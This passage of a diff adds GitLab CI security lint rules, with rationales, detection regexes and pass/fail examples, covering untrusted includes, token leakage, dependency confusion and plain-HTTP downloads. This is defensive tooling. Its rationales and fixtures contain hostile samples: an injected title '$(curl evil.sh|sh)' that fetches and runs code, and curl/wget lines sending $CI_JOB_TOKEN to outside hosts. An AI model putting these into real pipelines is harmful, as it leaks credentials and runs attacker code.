+        require count(missing) == 0
+          else "ID token '${first(missing)}' of job '${j.name}' has no audience" at j.id_tokens[first(missing)]
+        require count(generic) == 0
+          else "ID token '${first(generic)}' of job '${j.name}' is minted for a generic audience: every service trusting it accepts the token" at j.id_tokens[first(generic)].aud
+
+        example pass """
+          deploy:
+            id_tokens:
+              VAULT_ID_TOKEN:
+                aud: https://vault.example.com
+              AWS_TOKEN:
+                aud: [sts.amazonaws.com]
+            script: [./deploy.sh]
+        """
+        example fail "instance URL" """
+          deploy:
+            id_tokens:
+              OIDC_TOKEN:
+                aud: ↓$CI_SERVER_URL
+            script: [./deploy.sh]
+        """ expect "ID token 'OIDC_TOKEN' of job 'deploy' is minted for a generic audience"
+        example fail "gitlab.com, wildcard, none" """
+          a:
+            id_tokens:
+              T:
+                aud: ↓https://gitlab.com
+            script: [x]
+          b:
+            id_tokens:
+              T:
+                aud: ↓["https://*.example.com"]
+            script: [x]
+          c:
+            id_tokens:
+              T: ↓{}
+            script: [x]
+        """ expect "job 'a'" expect "job 'b'" expect "ID token 'T' of job 'c' has no audience"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/gitlab/image_pinned_by_digest.plumb",
       text: #"""
       rule image_pinned_by_digest {
@@ -4895,6 +5609,64 @@ extension BuiltinPolicies {
             image: ↓ruby:${RUBY_VERSION}-alpine
             script: [rake]
         """ expect "job 'test' runs 'ruby:3.3-alpine' by tag, not by digest"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/include_from_untrusted_variable.plumb",
+      text: #"""
+      rule include_from_untrusted_variable {
+        title "Includes are not chosen by the merge request's source or a pushed ref name"
+        severity high
+        category security
+        tags [gitlab-ci, injection, includes, ppe]
+        rationale """
+          An include whose project, ref, file or URL comes from `$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH`
+          (or `_ID`, `_URL`), `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`/`_SHA`, the external pull request's
+          source, or the pushed branch, tag or commit text (`$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`,
+          `$CI_COMMIT_TAG`, `$CI_COMMIT_MESSAGE`) takes pipeline configuration from wherever the person
+          who opened the merge request or pushed the ref points: a fork's project or a branch they
+          control. Their jobs then run in this project's pipeline, with its variables and runners
+          (poisoned pipeline execution). Local includes are not reported: they are read from the commit
+          being built anyway.
+        """
+        remediation "Include configuration only from fixed projects and refs (`project: acme/ci-templates`, `ref: v2.4.1`); to test changes of a template, run the template project's own pipeline."
+        param untrusted: pattern = "\\$\\{?(CI_MERGE_REQUEST_SOURCE_(PROJECT_PATH|PROJECT_ID|PROJECT_URL|BRANCH_NAME|BRANCH_SHA)|CI_EXTERNAL_PULL_REQUEST_SOURCE_(REPOSITORY|BRANCH_NAME|BRANCH_SHA)|CI_COMMIT_(BRANCH|REF_NAME|TAG|MESSAGE|TITLE|DESCRIPTION))\\b"
+
+        for p in gitlab.pipeline
+        let bad = filter(i in p.includes, i.kind != "local"
+          and (to_string(default(i.value, "")) matches param.untrusted
+            or to_string(default(i.ref, "")) matches param.untrusted
+            or any(f in flatten([default(i.file, [])]), to_string(f) matches param.untrusted)))
+        require count(bad) == 0
+          else "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: '${first(bad).value}' (${count(bad)} such include(s))" at first(bad)
+
+        example pass """
+          include:
+            - project: acme/ci-templates
+              ref: v2.4.1
+              file: /templates/build.yml
+            - local: ci/$CI_PIPELINE_SOURCE.yml
+          build:
+            script: [make]
+        """
+        example fail "the fork's project" """
+          include:
+            - ↓project: $CI_MERGE_REQUEST_SOURCE_PROJECT_PATH
+              ref: $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME
+              file: .gitlab/ci/tests.yml
+          build:
+            script: [make]
+        """ expect "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: '$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH'"
+        example fail "a ref or URL named by the branch" """
+          include:
+            - ↓project: acme/ci-templates
+              ref: ${CI_COMMIT_REF_NAME}
+              file: /templates/build.yml
+            - remote: https://ci.example.com/$CI_COMMIT_BRANCH/deploy.yml
+          build:
+            script: [make]
+        """ expect "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: 'acme/ci-templates'"
       }
 
       """#),
@@ -4955,6 +5727,169 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/gitlab/job_prints_environment.plumb",
+      text: #"""
+      rule job_prints_environment {
+        title "Job scripts do not print the whole environment"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, logging]
+        rationale """
+          `env`, `printenv`, `export -p`, `set` or `declare -p` on their own print every variable of the
+          job into its log: CI/CD variables that are not masked (or cannot be: short, multi-line, file
+          variables' contents), tokens a script exported, cloud credentials. The log is readable by every
+          developer (in public projects, by anyone) for as long as the job is kept.
+        """
+        remediation "Print only the variables you need (`echo \"$CI_COMMIT_SHA\"`), or filter to names known to be safe (`env | grep '^CI_COMMIT_'`)."
+        param dump: pattern = "^\\s*(sudo\\s+)?(env|printenv|export\\s+-p|set|declare\\s+-p|declare\\s+-x|export)\\s*(\\|\\s*(sort|cat|less|tee(\\s+-a)?\\s+\\S+)\\s*)?(;.*)?$"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.dump))
+        require count(lines) == 0
+          else "job '${j.name}' prints every variable of the job to its log: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.dump)))}'" at first(lines)
+
+        example pass """
+          build:
+            script:
+              - env | grep '^CI_COMMIT_'
+              - set -euo pipefail
+              - export PATH="$HOME/bin:$PATH"
+              - env GOOS=linux go build ./...
+              - printenv HOME
+        """
+        example fail "env and printenv" """
+          debug:
+            script:
+              - ↓env
+          sorted:
+            before_script:
+              - ↓printenv | sort
+            script: [make]
+        """ expect "job 'debug' prints every variable of the job to its log: 'env'" expect "job 'sorted'"
+        example fail "export -p in a block" """
+          debug:
+            script:
+              - ↓|
+                echo "environment:"
+                export -p
+        """ expect "job 'debug' prints every variable"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/job_token_sent_outside_gitlab.plumb",
+      text: #"""
+      rule job_token_sent_outside_gitlab {
+        title "The job token is sent only to GitLab"
+        severity high
+        category security
+        tags [gitlab-ci, secrets, third-party]
+        rationale """
+          `$CI_JOB_TOKEN` authenticates as the user who started the pipeline, to this GitLab and every
+          project that allows this project's token: its API, package registries, container registry,
+          repositories. A request that carries it to another host (a webhook, an artifact server, a
+          third-party API) hands those rights to that host's operators, its logs and anyone on the
+          network path. Reported: script lines that use `$CI_JOB_TOKEN` with an `http(s)://` URL whose
+          host is neither a `$CI_…` variable nor a GitLab host.
+        """
+        remediation "Send the job token only to `$CI_API_V4_URL`, `$CI_SERVER_URL` or `$CI_REGISTRY`; give other services their own narrowly scoped credential."
+        param outside: pattern = "(?i)https?://(?!\\$\\{?CI_|[^/\\s\"']*gitlab|localhost\\b|127\\.0\\.0\\.1)[a-z0-9.-]+\\.[a-z]{2,}"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches "\\$\\{?CI_JOB_TOKEN\\b" and x matches param.outside))
+        require count(lines) == 0
+          else "job '${j.name}' sends $CI_JOB_TOKEN to a host outside GitLab: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches "CI_JOB_TOKEN")))}'" at first(lines)
+
+        example pass """
+          release:
+            script:
+              - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file pkg.tgz "${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/packages/generic/pkg/1.0/pkg.tgz"'
+              - git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/acme/tools.git
+              - curl -fsS https://downloads.example.com/tool.tgz -o tool.tgz
+        """
+        example fail "header and query" """
+          notify:
+            script:
+              - ↓'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://hooks.example.net/ci'
+          fetch:
+            script:
+              - ↓wget "https://artifacts.example.org/get?token=${CI_JOB_TOKEN}"
+        """ expect "job 'notify' sends $CI_JOB_TOKEN to a host outside GitLab" expect "job 'fetch'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/merge_request_job_with_secrets.plumb",
+      text: #"""
+      rule merge_request_job_with_secrets {
+        title "Jobs that run for merge requests do not receive secrets or ID tokens"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, pbac]
+        rationale """
+          A merge-request pipeline runs the code of the merge request's source branch, which its author
+          wrote; when the project runs pipelines for merge requests from forks in the parent project,
+          that author is an outsider. A job of such a pipeline that fetches `secrets:` (Vault, cloud
+          secret managers) or mints `id_tokens:` hands them to that code: the build scripts, tests and
+          dependencies of the branch can read and send them anywhere. Reported: jobs with a rule that
+          runs them for merge requests (`$CI_PIPELINE_SOURCE == "merge_request_event"`,
+          `$CI_MERGE_REQUEST_IID`, `external_pull_request_event`) or `only: [merge_requests]`, and
+          `secrets:` or `id_tokens:` (also from `default:`).
+        """
+        remediation "Move the job that needs credentials to pipelines of protected branches or tags (`rules: [{if: '$CI_COMMIT_REF_PROTECTED == \"true\"'}]`), and let merge-request jobs work without them."
+        param mr_rule: pattern = "(==|=~)\\s*[\"'/]?(merge_request_event|external_pull_request_event)|\\$CI_MERGE_REQUEST_I?ID\\b(?!\\s*==\\s*null)|\\$CI_EXTERNAL_PULL_REQUEST_IID\\b(?!\\s*==\\s*null)"
+
+        for j in gitlab.job
+        let mr_rules = filter(r in j.rules_list, to_string(default(r.when, "")) != "never" and to_string(default(r["if"], "")) matches param.mr_rule)
+        let only = default(j.only.refs, j.only)
+        let mr_only = any(o in default(only, []), to_string(o) == "merge_requests" or to_string(o) == "external_pull_requests")
+        when count(mr_rules) > 0 or mr_only
+        require not exists(j.secrets)
+          else "job '${j.name}' runs for merge requests and fetches secrets (${join(keys(j.secrets), ", ")}): the merge request's code can read them" at j.secrets
+        require not exists(j.id_tokens)
+          else "job '${j.name}' runs for merge requests and mints ID tokens (${join(keys(j.id_tokens), ", ")}): the merge request's code can use them" at j.id_tokens
+
+        example pass """
+          test:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+            script: [make test]
+          deploy:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+                when: never
+              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
+            secrets:
+              DATABASE_PASSWORD:
+                vault: production/db/password@ops
+            script: [./deploy.sh]
+        """
+        example fail "secrets" """
+          integration:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == 'merge_request_event'
+            secrets:
+              ↓API_KEY:
+                vault: ci/api/key@secrets
+            script: [make integration]
+        """ expect "job 'integration' runs for merge requests and fetches secrets (API_KEY)"
+        example fail "id_tokens from default, only: merge_requests" """
+          default:
+            id_tokens:
+              ↓AWS_TOKEN:
+                aud: sts.amazonaws.com
+          plan:
+            only: [merge_requests]
+            script: [terraform plan]
+          review:
+            rules:
+              - if: $CI_MERGE_REQUEST_IID
+            script: [./review.sh]
+        """ expect "job 'plan' runs for merge requests and mints ID tokens (AWS_TOKEN)" expect "job 'review'"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/gitlab/merge_request_variable_injection.plumb",
       text: #"""
       rule merge_request_variable_injection {
@@ -4963,23 +5898,28 @@ extension BuiltinPolicies {
         category security
         tags [gitlab-ci, injection]
         rationale """
-          Anyone who can push a branch or open a merge request (from a fork too, when the project runs
-          fork pipelines) chooses `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
-          `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`, and the branch names in `$CI_COMMIT_BRANCH`,
-          `$CI_COMMIT_REF_NAME` and `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`. As a quoted argument they
-          are data; passed to `eval`, `sh -c`, `bash -c`, `python -c` and the like they are parsed as
-          code, so a title such as `$(curl evil.sh|sh)` runs with the job's token and variables. The same
-          happens when `$[[ inputs.x | expand_vars ]]` pastes a variable's value into the script text.
+          Anyone who can push a branch or tag or open a merge request (from a fork too, when the project
+          runs fork pipelines) chooses `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
+          `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`, `$CI_COMMIT_AUTHOR`, and the branch and tag names in
+          `$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`, `$CI_COMMIT_TAG` and
+          `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`. As a quoted argument they are data; passed to `eval`,
+          `sh -c`, `bash -c`, `python -c` or `ssh host …`, piped or fed by a here-document into a shell,
+          put in command position, or left unquoted where word splitting adds options that run code
+          (`git`, `find`, `tar`, interpreters), they are parsed as code, so a title such as
+          `$(curl evil.sh|sh)` runs with the job's token and variables. The value is followed through
+          `variables:` at every level (global, job, `extends`, `!reference`, `rules:` and `workflow:
+          rules:` variables) and script assignments (docs/inputs/gitlab-ci.md, "Dataflow"); the finding
+          shows the path. The same happens when `$[[ inputs.x | expand_vars ]]` pastes a variable's
+          value into the script text.
         """
         remediation "Do not build code from these values: pass them as quoted arguments (`./check-title.sh \"$CI_MERGE_REQUEST_TITLE\"`), validate them against a strict pattern, or use `$CI_COMMIT_REF_SLUG`; drop `expand_vars` from inputs used in scripts."
-        param untrusted: pattern = "\\$\\{?(CI_MERGE_REQUEST_TITLE|CI_MERGE_REQUEST_DESCRIPTION|CI_COMMIT_MESSAGE|CI_COMMIT_TITLE|CI_COMMIT_DESCRIPTION|CI_COMMIT_TAG_MESSAGE|CI_COMMIT_BRANCH|CI_COMMIT_REF_NAME|CI_COMMIT_AUTHOR|CI_MERGE_REQUEST_SOURCE_BRANCH_NAME|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\\b"
-        param eval_like: pattern = "(\\beval\\b|\\b(ba|z|da|k)?sh\\s++(-\\w++\\s++){0,16}-c\\b|\\b(python[0-9.]*|perl|ruby|node|php)\\s++(-\\w++\\s++){0,16}-[ce]\\b|\\bsource\\s+<\\(|(?m:^)(?>.*?\\bxargs\\b).*\\b(?:ba|z)?sh\\b)"
 
         for j in gitlab.job
-        let evaluated = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.eval_like and x matches param.untrusted))
+        let sinks = j.tainted_sinks
+        let sink = first(sinks)
         let expanded = filter(l in j.script_lines, to_string(l) matches "\\$\\[\\[\\s*inputs\\.[A-Za-z0-9_-]+\\s*\\|[^\\]]*\\bexpand_vars\\b")
-        require count(evaluated) == 0
-          else "job '${j.name}' evaluates text chosen by whoever pushes or opens the merge request: '${trim(first(filter(x in split(to_string(first(evaluated)), "\n"), x matches param.untrusted)))}'" at first(evaluated)
+        require count(sinks) == 0
+          else "job '${j.name}' evaluates text chosen by whoever pushes or opens the merge request: '${sink.line}' runs ${sink.via} as code (${sink.kind})" at sink.line
         require count(expanded) == 0
           else "job '${j.name}' pastes an input with 'expand_vars' into its script; variables in the input's value are expanded into code" at first(expanded)
 
@@ -5012,6 +5952,279 @@ extension BuiltinPolicies {
                 - ↓echo "$[[ inputs.message | expand_vars ]]"
           """
         } expect "pastes an input with 'expand_vars' into its script"
+        example pass "quoted data, single-quoted code, quoted here-document" """
+          variables:
+            TITLE: $CI_MERGE_REQUEST_TITLE
+          notify:
+            script:
+              - echo "$TITLE" > title.txt
+              - git log --format=%s "$CI_COMMIT_BRANCH"
+              - bash -c 'printf "%s\n" "$CI_COMMIT_MESSAGE"'
+              - |
+                python3 - <<'EOF'
+                import os; print(os.environ["CI_COMMIT_TITLE"])
+                EOF
+              - echo "$CI_COMMIT_DESCRIPTION" | grep -q skip || make
+        """
+        example fail "through variables and extends" """
+          variables:
+            TITLE: "$CI_MERGE_REQUEST_TITLE"
+          .notify:
+            variables:
+              MESSAGE: "MR: ${TITLE}"
+          notify:
+            extends: .notify
+            script:
+              - ↓bash -c "slack-post $MESSAGE"
+        """ expect "runs CI_MERGE_REQUEST_TITLE → variables: TITLE → '.notify' variables: MESSAGE (extends) as code (bash -c)"
+        example fail "eval even when quoted" """
+          release:
+            rules:
+              - if: $CI_COMMIT_TAG
+                variables:
+                  VERSION: $CI_COMMIT_TAG
+            script:
+              - ↓eval "export RELEASE_VERSION=$VERSION"
+        """ expect "(eval)"
+        example fail "unquoted where word splitting runs code, command position, pipe into a shell" """
+          a:
+            script:
+              - ↓git log $CI_COMMIT_MESSAGE
+          b:
+            script:
+              - export STEP="$CI_COMMIT_TITLE"
+              - ↓$STEP --check
+          c:
+            script:
+              - ↓echo "$CI_MERGE_REQUEST_DESCRIPTION" | sh
+          d:
+            script:
+              - ↓|
+                python3 <<EOF
+                print("$CI_COMMIT_BRANCH")
+                EOF
+        """ expect "(unquoted argument)" expect "(command position)" expect "(piped into sh)" expect "(here-document into python3)"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/needs_artifacts_from_other_project.plumb",
+      text: #"""
+      rule needs_artifacts_from_other_project {
+        title "Artifacts from other projects come from a fixed ref"
+        severity medium
+        category security
+        tags [gitlab-ci, artifact-integrity, supply-chain]
+        rationale """
+          `needs: [{project: other/project, job: build, ref: main, artifacts: true}]` downloads the
+          artifacts of the latest successful job of that project's ref into this job's workspace, where
+          the job runs or ships them. A branch ref (or one built from variables) gives whatever the last
+          pipeline of that branch produced: whoever can push to that branch in that project, or run a
+          pipeline for it, chooses the files this pipeline executes or releases. A release tag is fixed
+          unless it is deleted and re-created.
+        """
+        remediation "Point `ref:` at a release tag of the other project, verify the downloaded files (a checksum or signature published with the release), or rebuild them in this pipeline."
+        param version: pattern = "^v?[0-9]+(\\.[0-9]+)+([-+][0-9A-Za-z.-]+)?$"
+
+        for j in gitlab.job
+        let cross = filter(n in default(j.needs, []), exists(n.project) and default(n.artifacts, true) != false
+          and not (to_string(default(n.ref, "")) matches param.version))
+        require count(cross) == 0
+          else "job '${j.name}' runs with artifacts of job '${first(cross).job}' from project '${first(cross).project}' at '${default(first(cross).ref, "its default branch")}', which whoever pushes there changes" at first(cross).project
+
+        example pass """
+          package:
+            needs:
+              - project: acme/ui
+                job: build
+                ref: v2.3.1
+                artifacts: true
+              - project: acme/docs
+                job: build
+                ref: main
+                artifacts: false
+            script: [./package.sh]
+        """
+        example fail "branch ref" """
+          package:
+            needs:
+              - project: ↓acme/ui
+                job: build
+                ref: main
+                artifacts: true
+            script: [./package.sh]
+        """ expect "job 'package' runs with artifacts of job 'build' from project 'acme/ui' at 'main'"
+        example fail "variable ref" """
+          package:
+            needs:
+              - pipeline: $PARENT_PIPELINE_ID
+                job: generate
+              - project: ↓$UPSTREAM_PROJECT
+                job: build
+                ref: $UPSTREAM_REF
+            script: [./package.sh]
+        """ expect "job 'package' runs with artifacts of job 'build' from project '$UPSTREAM_PROJECT' at '$UPSTREAM_REF'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/package_extra_index_url.plumb",
+      text: #"""
+      rule package_extra_index_url {
+        title "Python packages are not resolved across several indexes"
+        severity medium
+        category security
+        tags [gitlab-ci, supply-chain, dependency-confusion]
+        rationale """
+          `pip install --extra-index-url` (or `PIP_EXTRA_INDEX_URL`, `uv --extra-index-url`, Poetry's
+          `supplemental` sources) makes pip take each package from whichever index offers the highest
+          version: anyone who publishes a package with the name of an internal one on PyPI, at a higher
+          version, has their code installed and run by the job (dependency confusion). A single index
+          that proxies PyPI, or `--index-url` alone, has no such race.
+        """
+        remediation "Use one index (`--index-url` of a registry that proxies PyPI and serves internal packages), pin hashes (`--require-hashes`), or with uv set `index-strategy = \"first-index\"` and name the index per package."
+        param extra: pattern = "(\\b(pip3?|uv\\s+pip|python3?\\s+-m\\s+pip|pipenv|uv)\\b[^\\n|;]*\\s--extra-index-url\\b|\\bPIP_EXTRA_INDEX_URL=|\\bpip3?\\s+config\\s+set\\s+global\\.extra-index-url\\b)"
+
+        for j in gitlab.job
+        let pipeline = first(j -> inPipeline)
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.extra and not (x matches "--require-hashes|^\\s*#")))
+        let var = default(j.variables.PIP_EXTRA_INDEX_URL, pipeline.variables.PIP_EXTRA_INDEX_URL)
+        require count(lines) == 0
+          else "job '${j.name}' installs Python packages from several indexes, the highest version wins: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.extra)))}'" at first(lines)
+        require not exists(var)
+          else "job '${j.name}' sets PIP_EXTRA_INDEX_URL: packages come from whichever index offers the highest version" at default(var.value, var)
+
+        example pass """
+          test:
+            script:
+              - pip install --index-url "$PYPI_PROXY_URL" -r requirements.txt
+              - pip install --require-hashes --extra-index-url https://pypi.example.com/simple -r requirements.lock
+        """
+        example fail "option" """
+          test:
+            script:
+              - ↓pip install --extra-index-url https://pypi.example.com/simple -r requirements.txt
+          uv:
+            script:
+              - ↓uv pip install --extra-index-url "$INTERNAL_INDEX" app
+        """ expect "job 'test' installs Python packages from several indexes" expect "job 'uv'"
+        example fail "variable" """
+          variables:
+            PIP_EXTRA_INDEX_URL: ↓https://pypi.example.com/simple
+          test:
+            script: [pip install -r requirements.txt]
+        """ expect "job 'test' sets PIP_EXTRA_INDEX_URL"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/publish_job_unrestricted.plumb",
+      text: #"""
+      rule publish_job_unrestricted {
+        title "Package publishing runs only for the default branch, protected refs or tags"
+        severity high
+        category security
+        tags [gitlab-ci, supply-chain, flow-control]
+        rationale """
+          A job that publishes a package (`npm publish`, `twine upload`, `gem push`, `cargo publish`,
+          `mvn deploy`, `gradle publish`, `poetry publish`, `helm push`, `dotnet nuget push`) without
+          `rules:` or `only:` that limit it to the default branch, protected refs or tags publishes
+          whatever any pushed branch contains, with the registry credentials the job holds: everyone who
+          installs the package runs that code. Dry runs (`--dry-run`) are not reported. Rules with
+          `when: never` exclude and are not counted; every other rule must require the default branch,
+          a protected ref or a tag.
+        """
+        remediation "Limit the job: `rules: [{if: '$CI_COMMIT_TAG'}]` or `{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH'}` (or `$CI_COMMIT_REF_PROTECTED == \"true\"`), and keep the registry token in a protected variable."
+        param publish: pattern = "(?i)(\\b(npm|pnpm|yarn)\\s++(?:\\S++\\s++){0,6}?publish(?![\\w-])|\\btwine\\s++upload\\b|\\bgem\\s++push\\b|\\bcargo\\s++publish\\b|\\bmvnw?\\s++(?:\\S++\\s++){0,12}?deploy\\b|\\bgradlew?\\b[^\\n]*\\bpublish\\w*\\b|\\bpoetry\\s++publish\\b|\\bhelm\\s++(cm-)?push\\b|\\b(dotnet\\s++nuget|nuget)\\s++push\\b|\\b(flit|hatch)\\s++publish\\b)"
+        param restricted: pattern = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*[\"']?(main|master|production|stable)[\"']?)"
+        param restricted_only: pattern = "^(main|master|production|stable|tags)$"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.publish and not (x matches "--dry-run\\b|^\\s*#")))
+        when count(lines) > 0
+        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
+        let loose = filter(r in runs, not (exists(r["if"])
+          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
+        let only = default(j.only.refs, j.only)
+        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
+        let shown = trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.publish)))
+        require (count(j.rules_list) > 0 and count(loose) == 0) or (count(j.rules_list) == 0 and only_ok)
+          else "job '${j.name}' publishes ('${shown}') for any branch: nothing limits it to the default branch, protected refs or tags" at first(lines)
+
+        example pass """
+          publish:
+            stage: deploy
+            rules:
+              - if: $CI_COMMIT_TAG
+            script:
+              - npm publish
+          pypi:
+            only: [tags]
+            script: [twine upload dist/*]
+          check:
+            script: [npm publish --dry-run]
+        """
+        example fail "no rules" """
+          publish:
+            stage: deploy
+            script:
+              - npm ci
+              - ↓npm --registry "$REGISTRY" publish
+        """ expect "job 'publish' publishes ('npm --registry \"$REGISTRY\" publish') for any branch"
+        example fail "loose rules and only: branches" """
+          gem:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "push"
+            script:
+              - ↓gem push pkg/*.gem
+          maven:
+            only: [branches]
+            script:
+              - ↓mvn -B -s settings.xml deploy
+          chart:
+            script:
+              - ↓|
+                helm package chart
+                helm cm-push chart-*.tgz repo
+        """ expect "job 'gem' publishes" expect "job 'maven' publishes" expect "job 'chart' publishes"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/remote_include_plain_http.plumb",
+      text: #"""
+      rule remote_include_plain_http {
+        title "Remote includes are fetched over HTTPS"
+        severity high
+        category security
+        tags [gitlab-ci, supply-chain, includes]
+        rationale """
+          `include: remote: http://…` fetches pipeline configuration without TLS each time a pipeline
+          is created: anyone on the network path between GitLab and that server (or who can spoof its
+          DNS name) rewrites the jobs, images and scripts of the pipeline, which then run with all its
+          variables and deploy credentials.
+        """
+        remediation "Use `https://` (and `integrity: sha256-…`), or vendor the file into the repository and include it with `local:`."
+
+        for p in gitlab.pipeline
+        let plain = filter(i in p.includes, i.kind == "remote" and lower(to_string(i.value)) matches "^http://")
+        require count(plain) == 0
+          else "the pipeline includes '${first(plain).value}' over plain HTTP (${count(plain)} such include(s))" at first(plain)
+
+        example pass """
+          include:
+            - remote: https://example.com/ci/lint.yml
+              integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=
+          lint:
+            script: [make lint]
+        """
+        example fail "mapping and string" """
+          include:
+            - ↓remote: http://ci.example.com/templates/lint.yml
+            - HTTP://ci.example.com/templates/deploy.yml
+          lint:
+            script: [make lint]
+        """ expect "the pipeline includes 'http://ci.example.com/templates/lint.yml' over plain HTTP (2 such include(s))"
       }
 
       """#),
@@ -5100,6 +6313,163 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/gitlab/script_plain_http_download.plumb",
+      text: #"""
+      rule script_plain_http_download {
+        title "Job scripts download code and packages over HTTPS"
+        severity medium
+        category security
+        tags [gitlab-ci, supply-chain, tls]
+        rationale """
+          A download over `http://` (`curl`, `wget`, `Invoke-WebRequest`, `git clone`, `pip
+          --index-url`, `npm --registry`, `go env GOPROXY`, `apt` sources written by the job) can be
+          replaced by anyone on the network path: the job then builds, runs or ships their code, with
+          its variables and credentials. Hosts that never leave the runner (`localhost`, loopback,
+          service aliases without a dot such as `http://docker:2375`) are not reported.
+        """
+        remediation "Use `https://` and, for files, check a published SHA-256 (`sha256sum -c`); point package managers at HTTPS indexes."
+        param fetch: pattern = "(?i)(\\b(curl|wget|iwr|invoke-webrequest|invoke-restmethod|irm|aria2c|git\\s+clone|git\\s+fetch|git\\s+submodule\\s+add|helm\\s+repo\\s+add|apk\\s+add|pip3?\\s+(install|download)|python3?\\s+-m\\s+pip\\s+install|npm\\s+(install|ci|config\\s+set\\s+registry)|yarn\\s+config\\s+set\\s+registry|go\\s+env\\s+-w\\s+GOPROXY|gem\\s+(install|sources\\s+--add))\\b[^\\n|;]*?(\\s|=|[\"'])http://(?!(localhost|127\\.0\\.0\\.1|\\[::1\\]|0\\.0\\.0\\.0)[:/\"'\\s]|[a-z0-9_-]+[:/\"'\\s]|[a-z0-9_-]+$)[^\\s\"']+)"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.fetch and not (x matches "^\\s*#")))
+        require count(lines) == 0
+          else "job '${j.name}' downloads over plain HTTP: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.fetch)))}'" at first(lines)
+
+        example pass """
+          fetch:
+            script:
+              - curl -fsSLo tool.tgz https://downloads.example.com/tool.tgz
+              - curl -s http://localhost:8080/health
+              - curl http://docker:2375/info
+              - wget -qO- http://minio:9000/minio/health/live
+              - pip install --index-url https://pypi.example.com/simple app
+        """
+        example fail "curl, wget" """
+          fetch:
+            script:
+              - ↓curl -fsSL -o tool.tgz http://downloads.example.com/tool.tgz
+          get:
+            script:
+              - ↓wget "http://mirror.example.org/pkg.deb"
+        """ expect "job 'fetch' downloads over plain HTTP: 'curl -fsSL -o tool.tgz http://downloads.example.com/tool.tgz'" expect "job 'get'"
+        example fail "package indexes" """
+          py:
+            script:
+              - ↓pip install --index-url=http://pypi.example.com/simple app
+          js:
+            script:
+              - ↓npm config set registry http://npm.example.com/
+        """ expect "job 'py'" expect "job 'js'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/secret_variable_printed.plumb",
+      text: #"""
+      rule secret_variable_printed {
+        title "Job scripts do not print secrets to the job log"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, logging]
+        rationale """
+          `echo $DEPLOY_TOKEN` or `printf "%s" "$DB_PASSWORD"` writes the secret into the job log, which
+          every developer (in public projects, anyone) can read and which is kept as long as the job.
+          Masking hides only values GitLab can mask (at least 8 characters of a limited alphabet, one
+          line, masked variables only) and never a value a script has transformed. Reported: `echo` and
+          `printf` of a variable named like a secret (`*TOKEN*`, `*PASSWORD*`, `*SECRET*`, `*API_KEY*`,
